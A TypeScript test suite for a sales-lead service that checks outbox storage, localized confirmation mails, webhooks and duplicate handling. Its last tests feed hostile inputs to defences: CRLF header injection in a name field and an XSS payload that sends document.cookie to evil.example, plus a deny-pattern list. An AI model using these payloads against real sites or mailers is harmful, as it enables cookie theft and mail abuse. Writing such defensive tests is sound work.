/**
 * A lead stored with its outbox rows in one transaction, and the mails it makes: to sales with every field,
 * to the visitor with none of their writing; on PGlite and on a PostgreSQL server (tests/support/lead-backend.ts).
 */
import { expect, it } from "vitest";
import { eq, sql } from "drizzle-orm";
import { emailsEn } from "../../content/emails/en.ts";
import { emailsId } from "../../content/emails/id.ts";
import { leads, outbox } from "../../core/db/schema.ts";
import { sanitizeMessageHtml } from "../../core/leads/schemas/rich-text.server.ts";
import { fill } from "../../core/i18n/fill.ts";
import { formWords } from "../../core/i18n/form-words.ts";
import type { LeadInput } from "../../core/leads/lead.ts";
import { createLeadService } from "../../core/leads/store/leads.server.ts";
import {
  addressesOf,
  attemptsOf,
  contactLead,
  contactMessage,
  db,
  demoLead,
  describeOnLeadBackends,
  escapeHtml,
  expectSignature,
  hooks,
  htmlOf,
  leadSettings,
  must,
  newScreening,
  onlyMailTo,
  outboxOf,
  registrationLead,
  registrationPath,
  resourceLead,
  salesEmail,
  secrets,
  setUpLeadServers,
  siteUrl,
  smtp,
  unique,
  workerOn,
} from "../support/lead-backend.ts";

setUpLeadServers();

/** The sales mail names countries, sizes, interests and topics as the English form does. */
const words = formWords.en;

interface LeadCase {
  label: string;
  make(): LeadInput;
  channels: string[];
  salesSubject(input: LeadInput): string;
  /** Lines the sales mail's text must hold, beyond the common ones. */
  salesLines(input: LeadInput): string[];
  visitorSubject(input: LeadInput): string;
  /** What the visitor's confirmation must say, in the lead's language. */
  visitorPhrases(input: LeadInput): string[];
}

const leadCases: LeadCase[] = [
  {
    label: "demo request (Indonesian)",
    make: () => demoLead(),
    channels: ["sales-mail", "visitor-mail"],
    salesSubject: (input) =>
      `New demo request: ${input.name}, ${input.company} (${words.countries.ID}, 51-200)`,
    salesLines: () => [
      `Country: ${words.countries.ID}`,
      `Company size: ${words.companySizes["51-200"]}`,
      `Interested in: ${(["time", "overtime", "payroll"] as const).map((key) => words.interests[key]).join(", ")}`,
      // 03:00 UTC is 10:00 in Jakarta.
      "Slot, office time (Asia/Jakarta): Tuesday, 12 March 2030, 10:00–10:30",
    ],
    visitorSubject: () => emailsId.demo.subject,
    visitorPhrases: () => ["Halo Siti,", "Terima kasih", "10.00–10.30", "Salam hangat,"],
  },
  {
    label: "registration (English)",
    make: () => registrationLead(),
    channels: ["sales-mail", "visitor-mail", "registration-webhook"],
    salesSubject: (input) =>
      `New trial registration: ${input.name}, ${input.company} (${words.countries.MY}, 11-50)`,
    salesLines: () => [
      `Country: ${words.countries.MY}`,
      `Company size: ${words.companySizes["11-50"]}`,
      "Terms accepted (UTC): ",
    ],
    visitorSubject: () => emailsEn.registration.subject,
    visitorPhrases: () => ["Hi Ahmad,", "Thanks for registering with Regu.", "Warm regards,"],
  },
  {
    label: "contact message (Indonesian)",
    make: () => contactLead(),
    channels: ["sales-mail", "visitor-mail"],
    salesSubject: (input) => `New contact message: ${input.name}, ${input.company} (${words.topics.billing})`,
    salesLines: () => [
      `Topic: ${words.topics.billing}`,
      ...contactMessage.text
        .split("\n")
        .filter((line) => line.trim() !== "")
        .map((line) => `> ${line}`),
    ],
    visitorSubject: () => emailsId.contact.subject,
    visitorPhrases: () => ["Halo Dewi,", "Terima kasih", formWords.id.topics.billing],
  },
  {
    label: "resource download (English)",
    make: () => resourceLead(),
    channels: ["sales-mail", "visitor-mail"],
    salesSubject: (input) =>
      `New resource download: ${input.name}, ${input.company} (Month-end attendance and payroll checklist)`,
    salesLines: () => [
      "Resource: Month-end attendance and payroll checklist",
      `Resource page: ${siteUrl}/download-resources/month-end-attendance-and-payroll-checklist`,
    ],
    visitorSubject: () =>
      fill(emailsEn.resource.subject, { title: "Month-end attendance and payroll checklist" }),
    visitorPhrases: () => ["Hi Nur,", "Month-end attendance and payroll checklist"],
  },
];

describeOnLeadBackends(() => {
  it.each(leadCases)(
    "stores a $label with its outbox rows in one transaction and delivers them",
    async (leadCase) => {
      const input = leadCase.make();
      const service = createLeadService(db, leadSettings());
      const stored = await service.submit(input, newScreening);
      expect(stored.duplicate).toBe(false);

      const rows = await db.select().from(leads).where(eq(leads.email, input.email));
      expect(rows).toHaveLength(1);
      const lead = must(rows[0], "the lead row");
      expect(lead).toMatchObject({
        id: stored.id,
        type: input.type,
        status: "new",
        lang: input.lang,
        name: input.name,
        company: input.company,
        phone: input.phone,
        marketingConsent: input.marketingConsent,
        recaptchaScore: 0.9,
      });
      expect(lead.details).toEqual(input.details);
      expect(lead.attribution).toEqual(input.attribution);

      const queued = await outboxOf(stored.id);
      expect(queued.map((row) => row.channel)).toEqual(leadCase.channels);
      for (const row of queued) {
        expect(row).toMatchObject({ status: "pending", attempts: 0, subjectEmail: input.email });
        // now() is the transaction's start: the same instant for the lead and its messages.
        expect(row.createdAt.getTime()).toBe(lead.createdAt.getTime());
      }

      const worker = workerOn(db);
      expect(await worker.runOnce()).toBe(leadCase.channels.length);
      await smtp.waitFor(2);
      expect(smtp.messages).toHaveLength(2);

      // The sales team's notification: to sales, Reply-To the visitor, every field.
      const salesMail = onlyMailTo(salesEmail);
      expect(addressesOf(salesMail.from)).toEqual(["no-reply@regu.example"]);
      expect(addressesOf(salesMail.replyTo)).toEqual([input.email]);
      expect(salesMail.subject).toBe(leadCase.salesSubject(input));
      const salesText = salesMail.text ?? "";
      const language = input.lang === "id" ? "Indonesian" : "English";
      const commonLines = [
        `Name: ${input.name}`,
        `Email: ${input.email}`,
        `Phone: ${input.phone === "" ? "(not given)" : input.phone}`,
        `Company: ${input.company}`,
        `Language: ${language}`,
        `Marketing emails: ${input.marketingConsent ? "Yes, opted in" : "No"}`,
        `Form page: ${input.attribution.page}`,
        `Lead ID: ${stored.id}`,
        "Status: New",
        "Received (UTC): ",
        ...(
          [
            "utm_source",
            "utm_medium",
            "utm_campaign",
            "utm_term",
            "utm_content",
            "landingPage",
            "referrer",
          ] as const
        )
          .map((key) => input.attribution[key])
          .filter((value): value is string => value !== undefined)
          .map((value) => `: ${value}`),
      ];
      for (const line of [...commonLines, ...leadCase.salesLines(input)]) {
        expect(salesText, `sales mail text holds "${line}"`).toContain(line);
      }
      const salesHtml = htmlOf(salesMail);
      expect(salesHtml).toContain(escapeHtml(input.company));
      expect(salesHtml).toContain(escapeHtml(input.email));

      // The visitor's confirmation, in the language of the form, as HTML and as text.
      const visitorMail = onlyMailTo(input.email);
      expect(addressesOf(visitorMail.from)).toEqual(["no-reply@regu.example"]);
      expect(visitorMail.subject).toBe(leadCase.visitorSubject(input));
      const visitorText = visitorMail.text ?? "";
      const visitorHtml = htmlOf(visitorMail);
      expect(visitorText.length).toBeGreaterThan(100);
      expect(visitorHtml).toContain(`<html lang="${input.lang}"`);
      for (const phrase of leadCase.visitorPhrases(input)) {
        expect(visitorText, `visitor text holds "${phrase}"`).toContain(phrase);
        expect(visitorHtml, `visitor HTML holds "${phrase}"`).toContain(escapeHtml(phrase));
      }
      if (input.lang === "id") expect(visitorText).not.toContain("Thank you");
      else expect(visitorText).not.toContain("Terima kasih");
      // The address is unconfirmed: nothing the visitor wrote goes back to it but the first name.
      const written = [input.company, input.phone, input.email, input.name.split(" ").slice(1).join(" ")];
      if (input.type === "contact") written.push(...input.details.messageText.split("\n"));
      for (const value of written.filter((item) => item.trim() !== "")) {
        expect(visitorText, `visitor text holds "${value}"`).not.toContain(value);
        expect(visitorHtml, `visitor HTML holds "${value}"`).not.toContain(escapeHtml(value));
      }

      if (input.type === "registration") {
        const request = must((await hooks.waitFor(1))[0], "the registration webhook request");
        expect(hooks.requests).toHaveLength(1);
        expect(request).toMatchObject({ method: "POST", path: registrationPath });
        expect(request.headers["content-type"]).toBe("application/json");
        expectSignature(request, secrets.registration);
        expect(JSON.parse(request.body)).toEqual({
          event: "registration.created",
          leadId: stored.id,
          name: input.name,
          email: input.email,
          phone: input.phone,
          company: input.company,
          companySize: "11-50",
          country: "MY",
          lang: "en",
          marketingConsent: false,
          termsAcceptedAt: "2025-06-02T08:15:00.000Z",
          verified: true,
        });
      } else {
        expect(hooks.requests).toHaveLength(0);
      }

      const sent = await outboxOf(stored.id);
      expect(sent.every((row) => row.status === "sent" && row.attempts === 1 && row.sentAt !== null)).toBe(
        true,
      );
      const attempts = await attemptsOf(sent.map((row) => row.id));
      expect(attempts.map((attempt) => attempt.ok)).toEqual(leadCase.channels.map(() => true));
      expect(await worker.runOnce()).toBe(0);
    },
  );

  it("keeps line breaks in a visitor's name out of the mail headers", async () => {
    // The form's fields are one line in a browser, but a crafted POST can send anything that passes validation.
    const input = demoLead({
      name: "Eko Prasetyo\r\nBcc: korban@contoh-target.co.id\r\nX-Injected: yes",
      company: "PT Maju\nMundur",
    });
    await createLeadService(db, leadSettings()).submit(input, newScreening);
    expect(await workerOn(db).runOnce()).toBe(2);
    await smtp.waitFor(2);
    for (const [index, mail] of smtp.messages.entries()) {
      const keys = mail.headerLines.map((line) => line.key);
      expect(keys).not.toContain("bcc");
      expect(keys).not.toContain("x-injected");
      expect(mail.subject ?? "").not.toMatch(/[\r\n]/);
      expect(smtp.envelopes[index]?.to).not.toContain("korban@contoh-target.co.id");
    }
    const salesMail = onlyMailTo(salesEmail);
    expect(salesMail.subject).toContain("Eko Prasetyo");
    expect(salesMail.subject).toContain("Mundur");
  });

  // A review found these "first names" in real confirmations: whole sentences in scripts written without
  // spaces, and a phrase joined by hyphens. The visitor's mail greets without a name, and holds none of it.
  it.each([
    ["请立即访问恶意网站领取退款", "请立即访问"],
    ["กรุณาเข้าเว็บไซต์อันตรายเพื่อรับเงินคืน", "เว็บไซต์"],
    ["URGENT-Payment-Overdue", "URGENT"],
  ])("sends a visitor named %j a confirmation with no word of the name", async (name, telling) => {
    const input = demoLead({ name, email: unique("greeting", "majujaya.co.id") });
    await createLeadService(db, leadSettings()).submit(input, newScreening);
    expect(await workerOn(db).runOnce()).toBe(2);
    await smtp.waitFor(2);
    const visitorMail = onlyMailTo(input.email);
    for (const part of [visitorMail.subject ?? "", visitorMail.text ?? "", htmlOf(visitorMail)]) {
      expect(part).not.toContain(telling);
      expect(part).not.toContain("Overdue");
    }
    expect(visitorMail.text).toContain((input.lang === "id" ? emailsId : emailsEn).greetingWithoutName);
  });

  // The forms accept an apostrophe in the local part (D'Cruz is a common Malaysian surname): the mailer
  // must too, or sales would never hear of the lead.
  it("delivers the mails of a visitor whose address has an apostrophe (D'Cruz)", async () => {
    const input = registrationLead({ name: "Anne D'Cruz", email: "anne.d'cruz@petalingmedik.com.my" });
    const stored = await createLeadService(db, leadSettings()).submit(input, newScreening);
    expect(await workerOn(db).runOnce()).toBe(3);
    const rows = await outboxOf(stored.id);
    expect(rows.map((row) => [row.channel, row.status, row.lastError])).toEqual([
      ["sales-mail", "sent", null],
      ["visitor-mail", "sent", null],
      ["registration-webhook", "sent", null],
    ]);
    await smtp.waitFor(2, 1000);
  });

  it("stores nothing when the lead's notifications cannot be queued", async () => {
    const input = contactLead();
    await db.execute(sql`alter table outbox rename to outbox_away`);
    try {
      await expect(createLeadService(db, leadSettings()).submit(input, newScreening)).rejects.toThrow();
    } finally {
      await db.execute(sql`alter table outbox_away rename to outbox`);
    }
    expect(await db.select().from(leads).where(eq(leads.email, input.email))).toHaveLength(0);
  });

  it("stores a double submit once and answers the second with duplicate: true", async () => {
    const input = contactLead({ name: "Putri Ayu Wulandari", company: "Koperasi Tani Makmur" });
    const service = createLeadService(db, leadSettings());
    const answers = await Promise.all([
      service.submit(input, newScreening),
      service.submit(input, newScreening),
    ]);
    expect(answers.map((answer) => answer.duplicate).sort()).toEqual([false, true]);
    const [firstAnswer, secondAnswer] = answers;
    const id = must(firstAnswer, "the first answer").id;
    expect(secondAnswer?.id).toBe(id);
    expect(await db.select().from(leads).where(eq(leads.email, input.email))).toHaveLength(1);
    expect((await outboxOf(id)).map((row) => row.channel)).toEqual(["sales-mail", "visitor-mail"]);
    expect(await db.select().from(outbox)).toHaveLength(2);

    // A retried request a moment later is the same lead too; another form by the same person is not.
    const retry = await service.submit(input, newScreening);
    expect(retry).toEqual({ id, duplicate: true });
    const another = await service.submit(
      { ...input, details: { ...input.details, topic: "support" } },
      newScreening,
    );
    expect(another.duplicate).toBe(false);
  });

  it("stores only the sanitiser's output of a contact message: no script, handler or javascript: URL", async () => {
    const dirty =
      '<p onclick="steal()">Halo tim Regu,</p>' +
      '<img src="x" onerror="alert(document.cookie)">' +
      "<script>fetch('https://evil.example/?c='+document.cookie)</script>" +
      '<p>Mohon info <b>harga paket Business</b> untuk 250 karyawan. <a href="javascript:alert(1)">klik</a> ' +
      '<a href="https://www.regu.example/harga" onmouseover="x()">harga</a></p>' +
      '<svg><g onload="alert(1)"></g></svg><iframe src="javascript:alert(2)"></iframe>' +
      '<a href="jav&#x09;ascript:alert(3)">tautan</a>';
    const clean = sanitizeMessageHtml(dirty, "html");
    const input = contactLead({
      name: "Agus Salim",
      company: "PT Nusantara Digital Kreatif",
      details: { topic: "sales", messageHtml: clean.html, messageText: clean.text },
    });
    const stored = await createLeadService(db, leadSettings()).submit(input, newScreening);
    const [row] = await db.select().from(leads).where(eq(leads.id, stored.id));
    const details = must(row, "the lead row").details as { messageHtml: string; messageText: string };
    for (const forbidden of [
      /<script/i,
      /onerror/i,
      /javascript:/i,
      /onclick/i,
      /onload/i,
      /<iframe/i,
      /<img/i,
    ]) {
      expect(details.messageHtml).not.toMatch(forbidden);
    }
    expect(details.messageHtml).toContain("<strong>harga paket Business</strong>");
    expect(details.messageHtml).toContain('href="https://www.regu.example/harga"');
    expect(details.messageText).toContain("Mohon info harga paket Business untuk 250 karyawan.");

    expect(await workerOn(db).runOnce()).toBe(2);
    await smtp.waitFor(2);
    for (const mail of smtp.messages) {
      expect(htmlOf(mail)).not.toMatch(/<script|onerror|javascript:/i);
    }
    // The message goes to sales only: the visitor's copy would be a stranger's words in our mail.
    expect(htmlOf(onlyMailTo(salesEmail))).toContain("<strong>harga paket Business</strong>");
    expect(htmlOf(onlyMailTo(input.email))).not.toContain("harga paket Business");
  });
});
